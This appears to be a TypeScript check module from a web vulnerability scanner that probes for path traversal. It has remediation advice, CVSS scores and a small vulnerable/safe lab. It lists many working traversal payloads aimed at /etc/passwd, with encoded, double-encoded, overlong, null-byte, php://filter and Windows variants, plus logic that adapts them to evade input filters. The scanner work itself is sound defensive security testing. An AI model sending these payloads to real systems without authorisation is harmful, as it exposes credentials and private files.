import { judgeComputed } from '../../../oracle/computed.ts';
import { asPercent, asWide } from '../../../oracle/encodings.ts';
import { type Asking, definePointCheck, type Point } from '../../define-active-check.ts';
import { at, evenUnanswered, type Nonce } from '../../experiment.ts';
import { isEncoded } from '../../insertion-point.ts';
import { type Filter, firstSpelling, respell, watchFilter } from '../../shared/filters.ts';
import { KNOWN_FILES, type System } from '../../shared/known-files.ts';

import { firstToShow } from '../../shared/try-variants.ts';
import { mayMean } from '../../triage.ts';
import type { Triage } from '../../triage-result.ts';

/** How the path to a file is written, in two equivalent ways. */
interface Variant {
  /** A number climbs that many levels. */
  path: keyof typeof PATHS | number | Respelled;
  system: System;
  /** Also tried if neither name nor value looks like a file. */
  isUsual?: boolean;
  isRaw?: boolean;
}

/** A path that passes a filter: one step up, and the file with the last part of its name apart. */
interface Respelled {
  step: string;
  folder: string;
  file: string;
}

/** Climbs to the root; further steps have no effect. */
const up = (step: string, way: 0 | 1) => step.repeat(way === 0 ? 9 : 12);
const stay = (way: 0 | 1) => './'.repeat(way);
const folderOf = (value: string) => value.replace(/[^/]*$/, '');
const endingOf = (value: string) => /\.[a-z0-9]{1,5}$/i.exec(value)?.[0] ?? '';

type Write = (file: string, way: 0 | 1, value: string) => string;

const PATHS = {
  relative: (file, way) => up('../', way) + file,
  absolute: (file, way) => `/${stay(way)}${file}`,
  aboveRoot: (file, way) => `/${up('../', way)}${file}`,
  fromFolder: (file, way, value) => `${folderOf(value)}${up('../', way)}${file}`,
  doubled: (file, way) => up('....//', way) + file,
  encodedSlash: (file, way) => up('..%2f', way) + file,
  // Decoded once more before the check for '../', and again after it.
  encodedTwice: (file, way) => up('..%252f', way) + file,
  encoded: (file, way) => up('%2e%2e%2f', way) + file,
  overlong: (file, way) => up('..%c0%af', way) + file,
  nullByte: (file, way, value) => `${up('../', way)}${file}\0${endingOf(value) || '.txt'}`,
  fileUrl: (file, way) => `file:///${stay(way)}${file}`,
  phpFilter: (file, way) => `php://filter/convert.base64-encode/resource=/${stay(way)}${file}`,
  backslashes: (file, way) => up('..\\', way) + file.replaceAll('/', '\\'),
  drive: (file, way) => `C:/${stay(way)}${file}`,
  backslashesAndNullByte: (file, way, value) => `${up('..\\', way)}${file}\0${endingOf(value)}`,
} satisfies Record<string, Write>;

function write({ path }: Variant, file: string, way: 0 | 1, value: string): string {
  if (typeof path === 'number') return `${stay(way)}${'../'.repeat(path)}${file}`;
  if (typeof path === 'string') {
    const asNamed: Write = PATHS[path];
    return asNamed(file, way, value);
  }
  const name = file === KNOWN_FILES.unix.path ? path.file : file.replace(/^.*\//, '');
  return up(path.step, way) + path.folder + name;
}

const unix = (path: Variant['path'], more: Partial<Variant> = {}): Variant => ({ path, system: 'unix', ...more });

const LIKE_A_FILE = /file|path|doc|page|template|include|name|dir|folder|load|view|img|image|lang|style|theme/i;

/** Base64 of the file's beginning, for applications that encode what they read. */
const ENCODED = /(?:^|[^A-Za-z0-9+/])cm9vdDp4OjA6MDo/;
const showing = (system: System) =>
  system === 'unix' ? new RegExp(`${KNOWN_FILES.unix.shows.source}|${ENCODED.source}`, 'm') : KNOWN_FILES.windows.shows;

const looksLikeFile = ({ parameter: { name, value } }: Pick<Point, 'parameter'>) =>
  LIKE_A_FILE.test(name) || /\.[a-z0-9]{2,5}$|\//i.test(value);

const LOUD = '/../../etc/passwd';
const STEPS = ['../', '..\\'];

/** Resolves to the path in a spelling that passes the filter; to none where the usual one would pass as well. */
async function pathPast(filter: Filter): Promise<Variant[]> {
  const step = await firstSpelling(STEPS, filter);
  const [folder, file] = [await respell('etc/', filter), await respell('passwd', filter)];
  if (step === undefined || folder === undefined || file === undefined) return [];
  const isUsual = `${step.spelling}${folder}${file}` === `../${KNOWN_FILES.unix.path}`;
  return isUsual ? [] : [unix({ step: step.spelling, folder, file })];
}

/** Behind a filter that decodes, the file system sees none of the spellings of the triage. */
const mayBeBehindFilter = ({ isStable, isRead, isReactive }: Triage, point: Pick<Point, 'parameter'>) =>
  isStable && isRead && isReactive && looksLikeFile(point);

async function findPathPast(point: Point, nonce: Nonce, { ask, look, known }: Asking): Promise<Variant[]> {
  if ((known.depth ?? 'LEAD') === 'LEAD' || !look?.isStable) return [];
  const filter = await watchFilter({ point, nonce, ask, loud: LOUD, most: 8 });
  if (!filter) return [];
  const decoding = filter.mayRefuse || !mayMean(look, 'folder') ? await filter.decoding() : undefined;
  const write = decoding === 'wide' ? asWide : asPercent;
  if (decoding) return [unix({ step: write('../'), folder: write('etc/'), file: write('passwd') })];
  return mayMean(look, 'folder') ? pathPast(filter) : [];
}

const VARIANTS: readonly Variant[] = [
  unix('relative', { isUsual: true }),
  unix('absolute', { isUsual: true }),
  unix('aboveRoot'),
  unix('fromFolder'),
  unix('doubled'),
  unix('encodedSlash'),
  unix('encodedTwice'),
  unix('encoded', { isRaw: true }),
  unix('overlong', { isRaw: true }),
  unix('nullByte'),
  unix('fileUrl'),
  unix('phpFilter'),
  ...[1, 2, 3, 4, 5, 6].map((levels) => unix(levels)),
  { path: 'backslashes', system: 'windows', isUsual: true },
  { path: 'drive', system: 'windows' },
  { path: 'backslashesAndNullByte', system: 'windows' },
];

export default definePointCheck({
  id: 'path-traversal',
  provesInterpreter: true,
  title: 'Path traversal',
  cwe: 22,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
  impact:
    'An attacker reads any file that the application can read, such as configuration with passwords and source code.',
  why: "The value becomes part of a file path, and '../' sequences leave the intended directory. An attacker reads any file that the application can read, such as keys, source code and credentials. The response contained a well-known system file; a file that does not exist in the same directory returned nothing.",
  fix: 'Do not build file paths from request data: map ids to file names. Otherwise resolve the complete path, with symbolic links, and reject results outside of the intended directory. Removing "../" is no fix: "....//", encoded dots and absolute paths lead outside as well.',
  references: [
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/05-Authorization_Testing/01-Testing_Directory_Traversal_File_Include',
    'https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html',
    'https://cwe.mitre.org/data/definitions/22.html',
  ],
  risk: 'harmless',
  locations: ['query', 'path', 'form', 'json', 'xml', 'multipart', 'fileName', 'graphql', 'cookie', 'header'],
  appliesTo: () => true,
  isWorthTrying: (triage, point) => mayMean(triage, 'folder') || mayBeBehindFilter(triage, point),
  variants: VARIANTS,
  maxRequests: 44,
  async probe(point, nonce, asking) {
    const { ask, look } = asking;
    const isRead = look === undefined || mayMean(look, 'folder');
    const worth = VARIANTS.filter(
      ({ isUsual, isRaw }) => isRead && (isUsual || (looksLikeFile(point) && (!isRaw || isEncoded(point)))),
    );
    for (const variant of worth) {
      const { system, isRaw = false } = variant;
      const text = () => write(variant, KNOWN_FILES[system].path, 0, point.parameter.value);
      const found = await firstToShow([variant], showing(system), text, { point, ask, isRaw });
      if (found.length > 0) return found;
    }
    return findPathPast(point, nonce, asking);
  },
  proof: {
    plan(point, variant, { word }) {
      const { system, isRaw = false } = variant;
      const { path } = KNOWN_FILES[system];
      const { value } = point.parameter;
      const missing = write(variant, path.replace(/[^/]*$/, word), 0, value);
      return {
        base: at(point, 'unchanged value', value, { isControl: true }),
        attack: at(point, 'well-known file', write(variant, path, 0, value), { isRaw, answer: { isDecisive: true } }),
        // Some handlers answer nothing where a file is missing; the unchanged value is answered all the same.
        control: evenUnanswered(
          at(point, 'file that does not exist, by the same path', missing, { isRaw, isControl: true }),
        ),
        other: at(point, 'same file by another path', write(variant, path, 1, value), { isRaw }),
      };
    },
    judge({ base, attack, control, other }, { system }) {
      const file = showing(system);
      const files = [
        [attack, file],
        [other, file],
      ] as const;
      return judgeComputed(files, [base, control]);
    },
  },
  lab() {
    const { resolve } = process.getBuiltinModule('node:path').posix;
    const read = (path: string) => {
      if (path === '/etc/passwd') return { body: 'root:x:0:0:root:/root:/bin/sh\n' };
      return path === '/srv/shop/documents/terms.txt' ? { body: 'Be kind.' } : { status: 404, body: 'No such file' };
    };
    return {
      parameter: 'file',
      value: 'terms.txt',
      vulnerable: (value) => read(resolve('/srv/shop/documents', value)),
      safe(value) {
        const path = resolve('/srv/shop/documents', value);
        return path.startsWith('/srv/shop/documents/') ? read(path) : { status: 404, body: `No file ${value}` };
      },
    };
  },
});
